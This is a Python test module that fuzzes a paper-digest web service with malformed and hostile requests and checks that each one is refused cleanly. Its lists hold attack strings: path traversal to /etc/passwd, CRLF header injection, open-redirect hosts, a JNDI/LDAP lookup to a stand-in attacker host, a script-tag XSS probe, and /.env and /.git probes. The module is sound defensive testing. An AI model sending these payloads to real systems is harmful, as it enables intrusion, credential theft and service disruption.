"""Requests that nobody sends who means well: each is refused, in words, at no cost worth naming."""

import json
import re
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from local.cloud import Cloud
from tests.api import HTML, PROBLEM, request
from tests.hostile import ATTACKS, hostile_texts
from tests.pages import faults
from tests.properties import examples

LONGEST_ANSWER = 20_000
"""Characters of what anybody is told who asks for nonsense, however long that is."""


@pytest.fixture(scope="module")
def cloud() -> Iterator[Cloud]:
    with Cloud() as cloud:
        yield cloud


def check_refusal(answer: Mapping[str, Any]) -> None:
    """A refusal is the reader's fault, says why, and nothing of what is within."""
    assert 300 <= answer["statusCode"] < 500, answer["body"]
    for value in answer["headers"].values():
        assert re.fullmatch(r"[ -~]*", value)
    assert not re.search(r"Traceback|\.py\b|line \d|botocore|Error\(", answer["body"])
    assert len(answer["body"]) < LONGEST_ANSWER
    if answer["statusCode"] < 400:
        assert re.match(r"/(?!/)", answer["headers"]["Location"])
    elif answer["headers"]["Content-Type"] == HTML:
        assert faults(answer["body"].encode()) == []
    else:
        assert answer["headers"]["Content-Type"] == PROBLEM
        document = json.loads(answer["body"])
        assert document["status"] == answer["statusCode"]
        assert set(document) == {"type", "title", "status", "detail"}


PATHS = (
    "/..",
    "/../etc/passwd",
    "/digests/../../etc/passwd",
    "/digests/..%2f..%2fetc%2fpasswd",
    "/digests/%2e%2e%2f",
    "/digests/..\\..\\windows",
    "/digests/2020-09-18/../../..",
    "/digests/2020-09-18%00.json",
    "/digests/2020-09-18\x00",
    "/digests/2020-09-18.json.json",
    "/digests/2020-09-18.exe",
    "/digests/2020-09-18.md.",
    "/digests/2020-02-30",
    "/digests/0000-00-00",
    "/digests/99999-01-01",
    "/digests/２０２０-09-18",
    "/digests/2020-09-18\r\nSet-Cookie: a=b",
    "/digests/2020-09-18%0d%0aSet-Cookie:%20a=b",
    "/digests/2020-W99",
    "/digests/0000-W00",
    "/digests/2020-13",
    "/digests/Latest",
    "/digests/latest.json.md",
    "//evil.example/digests/",
    "//evil.example",
    "///evil.example//digests//",
    "/\\evil.example/digests/",
    "/%2f/evil.example/",
    "/https://evil.example/",
    "/http:evil.example",
    "/@evil.example/digests/",
    "/.evil.example",
    "/%ff%fe%c0%af",
    "/digests/%c0%ae%c0%ae",
    "/papers/%ff",
    "/papers/%",
    "/papers/%zz",
    "/papers/2009.08319v0",
    "/papers/2009.08319v99999999999999999999",
    "/papers/2009.08319%2f..%2f..",
    "/papers/math/0309136/x",
    "/papers/math%2f..%2f0309136",
    "/papers/" + "9" * 5_000,
    "/archive/0000",
    "/archive/９９９９",
    "/archive/" + "1" * 5_000,
    "/sitemaps/-1.xml",
    "/sitemaps/" + "2" * 5_000 + ".xml",
    "/feeds/secrets.atom",
    "/feeds/papers.atom.json",
    "/feeds/../digests.json",
    "/style-../../etc.css",
    "/style-" + "a" * 5_000 + ".css",
    "/" + "a" * 100_000,
    "/" + "a/" * 50_000,
    "/" + "/" * 100_000,
    "/" + "%2e%2e%2f" * 10_000,
    "/\ud800",
    "/😀",
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/{{7*7}}",
    "/${jndi:ldap://evil.example/a}",
    "/<script>alert(1)</script>",
    "",
)
"""Addresses that are none."""


@pytest.mark.parametrize("accept", ["text/html", "*/*"])
def test_paths_that_lead_nowhere_are_refused(cloud: Cloud, accept: str) -> None:
    accepted = {path: cloud.request(request(path, accept=accept)) for path in PATHS}

    for path, answer in accepted.items():
        try:
            check_refusal(answer)
        except AssertionError as error:
            raise AssertionError(f"{path[:100]!r}: {error}") from error


QUERIES = (
    "limit=0",
    "limit=-1",
    "limit=1e3",
    "limit=1_0",
    "limit=٣",
    "limit=" + "9" * 10_000,
    "limit=1&limit=2",
    "cursor=",
    "cursor=%00",
    "cursor=../../etc",
    "cursor=" + "A" * 100_000,
    "cursor=AAAA&cursor=BBBB",
    "cursor=%ff%fe",
    "q=" + "a" * 201,
    "q=" + "%20".join("bcdefghjk"),
    "q=the",
    "q=%f0%9f%98%80",
    "q=" + "%cc%81" * 100,
    "category=" + ",".join(["cs.LG"] * 11),
    "category=" + "&category=".join(["cs.LG"] * 11),
    "category=cs.%2A%2A",
    "category=.*",
    "category=cs",
    "category=%00",
    "author=" + ",".join("abcdefghijk"),
    "author=,,%2C.",
    "source=twitter",
    "source=x,X",
    "min=-1",
    "min=1.5",
    "min=NaN",
    "min=９",
    "min=" + "9" * 10_000,
    "exclude=" + "x," * 500,
    "exclude=%22",
    "catgory=cs.LG",
    "__proto__=1",
    "q[]=a",
    "q%00=a",
    "%ff=%ff",
    "=",
    "=a",
    "&".join(f"p{number}=1" for number in range(1_000)),
    "&".join(["q=a"] * 1_000),
    "x=" + "a" * 1_000_000,
    "a" * 1_000_000 + "=1",
)
"""What nobody can be asked."""
FILTERED = (
    "/digests",
    "/search",
    "/digests/2020-09-18",
    "/digests/latest/papers",
    "/feeds/papers.rss",
)


@pytest.mark.parametrize("path", FILTERED)
def test_questions_that_are_none_are_refused(cloud: Cloud, path: str) -> None:
    for query in QUERIES:
        answer = cloud.request(request(f"{path}?{query}"))
        try:
            assert answer["statusCode"] == 400
            check_refusal(answer)
        except AssertionError as error:
            raise AssertionError(f"{path}?{query[:100]}: {error}") from error


HEADERS: tuple[dict[str, str], ...] = (
    {"accept": "text/html;q=" + "9" * 50_000},
    {"accept": ",".join(["text/html"] * 10_000)},
    {"accept": ";" * 50_000},
    {"accept": '"' * 50_000},
    {"accept": 'a/b;c="' + '\\"' * 30_000},
    {"accept": "\x00\r\nX: y"},
    {"accept": "text/html", "accept_encoding": ",".join(["gzip;q=0.5"] * 10_000)},
    {"accept_encoding": '"' * 50_000},
    {"accept_encoding": "*;q=0"},
    {"if_none_match": ", ".join(f'"{number}"' for number in range(10_000))},
    {"if_none_match": 'W/"' * 30_000},
    {"if_none_match": '"' + "\\" * 50_000},
    {"if_modified_since": "Mon, 99 Foo 99999 99:99:99 GMT"},
    {"if_modified_since": "a" * 50_000},
    {"if_modified_since": "Fri, 31 Dec 9999 23:59:59 GMT"},
    {"range": "bytes=0-0," * 10_000},
    {"host": "evil.example", "x_forwarded_host": "evil.example"},
    {"cookie": "a=b;" * 20_000},
    {f"x-{number}": "y" * 50 for number in range(1_000)},
)
"""Headers that nobody sends, in numbers and sizes that API Gateway would not let through."""


@pytest.mark.parametrize("target", ["/digests", "/feeds/papers.atom", "/digests/latest", "/", "/x"])
def test_no_header_makes_a_fault(cloud: Cloud, target: str) -> None:
    for headers in HEADERS:
        answer = cloud.request(request(target, **headers))
        assert answer["statusCode"] in (200, 304, 404, 406), headers
        assert "evil.example" not in json.dumps(answer)
        assert len(answer["body"]) < LONGEST_ANSWER


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "TRACE", "CONNECT", "X" * 999])
def test_nothing_can_be_changed(cloud: Cloud, method: str) -> None:
    for path in ("/", "/digests", "/digests/latest", "/search", "/feeds/papers.atom", "/nothing"):
        check_refusal(cloud.request(request(path, method=method)))


@pytest.mark.thorough
@settings(max_examples=examples(300), deadline=None)
@given(
    path=st.lists(
        st.sampled_from(
            ("/", "//", "digests", "papers", "feeds", "2020-09-18", "latest", ".json", "..", "%2f")
        )
        | st.sampled_from(ATTACKS)
        | hostile_texts(surrogates=True, longest=3),
        max_size=6,
    ).map("".join),
    query=st.just("") | hostile_texts(surrogates=True, longest=4),
    accept=st.sampled_from(("text/html", "*/*")) | hostile_texts(longest=3),
    method=st.sampled_from(("GET", "HEAD", "OPTIONS", "POST")),
)
def test_nothing_that_anybody_asks_is_a_fault(
    cloud: Cloud, path: str, query: str, accept: str, method: str
) -> None:
    answer = cloud.request(request(f"/{path}?{query}", method=method, accept=accept))

    assert answer["statusCode"] < 500, answer["body"]
    assert all(re.fullmatch(r"[ -~]*", value) for value in answer["headers"].values())
    answer["body"].encode()
